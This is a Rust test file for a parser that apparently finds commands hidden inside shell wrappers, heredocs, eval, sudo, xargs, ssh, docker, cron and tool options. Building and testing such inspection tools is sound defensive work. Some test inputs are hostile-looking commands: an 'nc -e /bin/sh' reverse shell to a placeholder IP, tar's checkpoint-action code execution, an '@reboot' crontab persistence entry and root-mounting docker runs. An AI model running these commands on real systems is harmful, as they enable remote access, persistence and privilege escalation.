//! Commands inside commands.

use crate::{check, ends};

#[test]
fn shells() {
    check("bash -c 'a | b'", &["bash -c \"a | b\"", "-c> a", "-c> b"]);
    ends("/bin/sh -ec \"a\" x", "-c> a");
    ends("bash -o pipefail -c 'a $0 $1' b c", "-c> a b c");
    ends("bash --norc -lc a", "-c> a");
    ends("zsh -c -- 'a'", "-c> a");
    ends("bash -c \"bash -c 'a'\"", "-c> -c> a");
    ends("a=b; bash -c \"$a c\"", "-c> b c");
    check("bash script.sh -c x", &["bash script.sh -c x"]);
}

#[test]
fn scripts_on_standard_input() {
    ends("sh <<E\na b\nE", "stdin> a b");
    ends("bash -s -- x <<< 'a $1'", "stdin> a x");
    ends("echo 'a b' | sudo bash", "!sudo> stdin> a b");
    ends("cat <<E | sh\na\nE", "stdin> a");
    ends("bash <(echo a)", "$()> a");
    ends("source <(echo a b)", "$()> a b");
    ends("bash /dev/stdin <<< a", "stdin> a");
}

#[test]
fn files_that_the_text_writes_and_runs() {
    ends("echo 'a b' > x.sh; chmod +x x.sh; ./x.sh", "././x.sh> a b");
    ends("cat > /tmp/x <<E\na\nE\nbash /tmp/x", ".//tmp/x> a");
    ends("printf 'a\\n' | tee x; echo b >> x; sh x", "./x> b");
    ends(
        "echo '#!/usr/bin/env python3\nimport os; os.system(\"a\")' > x; ./x",
        "././x> python:> a",
    );
    // One that runs itself is not followed for ever.
    ends("echo 'sh x' > x; sh x", "./x> sh x");
}

#[test]
fn eval_and_builtins() {
    ends("eval 'a; b'", "eval> b");
    ends("eval \"a\" \"b c\"", "eval> a b c");
    ends("command a b", "command> a b");
    ends("builtin exec -a x a b", "builtin> exec> a b");
    check("command -v a", &["command -v a"]);
}

#[test]
fn privilege() {
    check(
        "sudo -u root A=b c -u d",
        &["sudo -u root A=b c -u d", "!sudo> c -u d"],
    );
    ends("sudo sh -c 'a'", "!sudo> -c> a");
    ends("su - user -c 'a b'", "!su> a b");
    ends("su -c a", "!su> a");
    ends("doas -u x a", "!doas> a");
    ends("sudo -i <<< 'a'", "!sudo> stdin> a");
    ends("pkexec env A=b c", "!pkexec> env> c");
    check("sudo -l", &["sudo -l"]);
}

#[test]
fn wrappers() {
    ends(
        "nohup setsid timeout -s KILL 5 nice -n 10 stdbuf -oL a b",
        "nohup> setsid> timeout> nice> stdbuf> a b",
    );
    ends("env -i -u X A=b a c", "env> a c");
    ends("time -p a", "time> a");
    ends("watch -n 1 'a | b'", "watch> b");
    ends("script -qc 'a b' /dev/null", "script> a b");
    ends("unshare -r --mount a", "unshare> a");
    ends("busybox wget x", "busybox> wget x");
    ends("flock -n /tmp/l a b", "flock> a b");
    ends("strace -f -o x a b", "strace> a b");
    ends("poetry run a b", "poetry run> a b");
    ends("tmux new-session -d -s x 'a b'", "tmux new-session> a b");
    ends("screen -dmS x a b", "screen> a b");
    ends("systemd-run --user --unit x a b", "systemd-run> a b");
    check("git status", &["git status"]);
}

#[test]
fn commands_that_are_run_many_times() {
    ends("xargs -n 1 -I{} a {} b", "xargs> a {} b");
    ends("echo a b | xargs c", "xargs> c a b");
    check(
        "printf 'a\\nb\\n' | xargs -I% sh -c 'x %'",
        &[
            "printf a\\nb\\n",
            "xargs -I% sh -c \"x %\"",
            "xargs> sh -c \"x a\"",
            "xargs> -c> x a",
            "xargs> sh -c \"x b\"",
            "xargs> -c> x b",
        ],
    );
    ends("echo 'a b' | xargs", "xargs> echo a b");
    ends(
        "find . -name x -exec a {} \\; -exec b {} +",
        "find -exec> b {}",
    );
    ends("find . -execdir sh -c 'a' \\;", "find -execdir> -c> a");
    ends("parallel -j 2 a {} ::: b c", "parallel> a c");
    ends("echo a | parallel b", "parallel> b a");
}

#[test]
fn other_machines() {
    ends("ssh -p 22 -i k user@host 'a | b'", "@user@host> b");
    ends("ssh host a 'b c'", "@host> a b c");
    ends("ssh host <<E\na\nE", "@host> stdin> a");
    ends("ssh host bash -s <<< a", "@host> stdin> a");
    ends("docker exec -it -u root c1 sh -c 'a'", "@c1> -c> a");
    ends("docker run --rm -v /:/mnt image a b", "@image> a b");
    ends("docker compose exec web a", "@web> a");
    ends("kubectl -n x exec -it pod -- a b", "@pod> a b");
    check("docker ps -a", &["docker ps -a"]);
    check("ssh host", &["ssh host"]);
}

#[test]
fn later() {
    ends("trap 'a b' EXIT", "later trap> a b");
    ends("echo '*/5 * * * * a b' | crontab -", "later crontab> a b");
    ends(
        "(crontab -l; echo '@reboot a') | crontab -",
        "later crontab> a",
    );
    ends("echo a | at now + 1 hour", "later at> stdin> a");
    ends(
        "crontab <<E\n# m h\nMAILTO=x\n0 1 * * 1-5 a | b\nE",
        "later crontab> b",
    );
    check("trap - EXIT; crontab -l", &["trap - EXIT", "crontab -l"]);
}

#[test]
fn options_that_run_something() {
    ends(
        "tar cf x y --checkpoint=1 --checkpoint-action=exec='a b'",
        "tar> a b",
    );
    ends("nc -e /bin/sh 192.0.2.1 44", "nc> /bin/sh");
    ends("git rebase -i main -x 'a b'", "git rebase> a b");
}
